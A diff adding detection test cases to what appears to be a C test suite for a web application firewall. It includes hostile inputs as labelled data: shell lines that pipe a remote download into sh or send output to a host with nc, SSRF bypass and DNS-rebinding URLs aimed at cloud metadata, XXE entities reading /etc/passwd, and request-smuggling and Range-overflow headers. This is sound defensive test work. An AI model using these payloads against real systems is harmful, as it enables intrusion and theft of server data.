@@ -40,6 +40,13 @@ static const struct dcase cases[] = {
 	{ "cmdi", 0, "Great article! I tried `ls -la` and it worked; thanks :)" },
 	{ "cmdi", 0, "C++ vs C# || java && python" },
 	{ "cmdi", 1, "x`cat /etc/passwd`" },
+	/* pipelines and scripts someone writes, and what still counts in them */
+	{ "cmdi", 0, "find . -type f -size +100M -print0 | xargs -0 ls -lh | sort -k5 -h | tail -n 20\n" },
+	{ "cmdi", 0, "#!/usr/bin/env bash\nset -euo pipefail\nmake build && ./scripts/migrate.sh --env prod\n" },
+	{ "cmdi", 1, "#!/bin/sh\nid" },
+	{ "cmdi", 1, "#!/bin/sh\ncurl http://203.0.113.9/x | sh" },
+	{ "cmdi", 1, "ls -la | nc 203.0.113.9 4444" },
+	{ "cmdi", 1, "x | xargs -0 ls -lh /var/www" },
 	{ "cmdi", 0, "dog; cat" },
 	{ "cmdi", 0, "cats; dogs | birds" },
 	{ "cmdi", 0, "data:image/png;base64,iVBORw0KGgo/AAAA" },
@@ -82,6 +89,19 @@ static const struct dcase cases[] = {
 	{ "ssrf", 1, "https://good.example/r?next=http://127.0.0.1:6379/" },
 	{ "ssrf", 0, "Visit http://192.168.1.1 to configure your router" },
 	{ "ssrf", 0, "http://localhost:8080 is my dev server" },
+	/* parser differentials, rebinding and wildcard DNS, Oracle Cloud metadata */
+	{ "ssrf", 1, "http://a.example\\@169.254.169.254/" },
+	{ "ssrf", 1, "http:/\\/127.0.0.1:8500/v1/agent/self" },
+	{ "ssrf", 1, "http:\\\\10.0.0.5/" },
+	{ "ssrf", 1, "http://192.0.0.192/latest/meta-data/" },
+	{ "ssrf", 1, "http://7f000001.a9fea9fe.rbndr.us/" },
+	{ "ssrf", 1, "http://make-1.2.3.4-rebind-127.0.0.1-rr.1u.ms/" },
+	{ "ssrf", 1, "http://169-254-169-254.sslip.io/latest/" },
+	{ "ssrf", 1, "http://10.0.0.8.nip.io:8080/" },
+	{ "ssrf", 1, "http://app.localtest.me/" },
+	{ "ssrf", 0, "http://203-0-113-7.sslip.io/" },
+	{ "ssrf", 0, "https://7f3a9c01.cdn.example.com/a.png" },
+	{ "ssrf", 0, "https://img.example.com\\logo.png" },
 	{ "xxe", 1, "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>" },
 	{ "xxe", 1, "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>" },
 	{ "xxe", 1, "<!DOCTYPE foo PUBLIC \"-//X//EN\" \"http://evil.example/x.dtd\"><foo/>" },
@@ -198,6 +218,18 @@ test_protocol(void **state)
 	const struct waf_header h2c[] = { H("Host", "a"), H("Upgrade", "h2c"), H("HTTP2-Settings", "AAMA") };
 	const struct waf_header ws[] = { H("Host", "a"), H("Upgrade", "websocket"), H("Connection", "Upgrade") };
 	const struct waf_header xurl[] = { H("Host", "a"), H("X-Original-URL", "/admin") };
+	const struct waf_header ws_bad[] = { H("Host", "a"), H("Upgrade", "websocket"),
+		H("Connection", "Upgrade"), H("Sec-WebSocket-Version", "1337") };
+	const struct waf_header te_alias[] = { H("Host", "a"), H("Transfer_Encoding", "chunked"),
+		H("Content-Length", "5") };
+	const struct waf_header ms15034[] = { H("Host", "a"), H("Range", "bytes=0-18446744073709551615") };
+	const struct waf_header range_ok[] = { H("Host", "a"), H("Range", "bytes=1048576-2097151") };
+	const struct waf_header utf7[] = { H("Host", "a"),
+		H("Content-Type", "application/x-www-form-urlencoded; charset=utf-7") };
+	const struct waf_header gbk[] = { H("Host", "a"),
+		H("Content-Type", "application/x-www-form-urlencoded; charset=GBK") };
+	const struct waf_header imds[] = { H("Host", "169.254.169.254") };
+	const struct waf_header imds_port[] = { H("Host", "100.100.100.200:80") };
 	const struct waf_header mp[] = { H("Host", "a"),
 		H("Content-Type", "multipart/form-data; boundary=a; boundary=b") };
 
@@ -231,6 +263,14 @@ test_protocol(void **state)
 	assert_true(proto("GET", "/", NULL, h2c, 3, NULL, 0));
 	assert_true(proto("GET", "/", NULL, xurl, 2, NULL, 0));
 	assert_false(proto("GET", "/chat", NULL, ws, 3, NULL, 0));
+	assert_true(proto("GET", "/chat", NULL, ws_bad, 4, NULL, 0));
+	assert_true(proto("POST", "/", NULL, te_alias, 3, "0\r\n\r\n", 0));
+	assert_true(proto("GET", "/big.iso", NULL, ms15034, 2, NULL, 0));
+	assert_false(proto("GET", "/big.iso", NULL, range_ok, 2, NULL, 0));
+	assert_true(proto("POST", "/c", NULL, utf7, 2, "a=+ADw-script+AD4-", 0));
+	assert_false(proto("POST", "/c", NULL, gbk, 2, "a=1", 0));
+	assert_true(proto("GET", "/latest/meta-data/", NULL, imds, 1, NULL, 0));
+	assert_true(proto("GET", "/", NULL, imds_port, 1, NULL, 0));
 }
 
 int
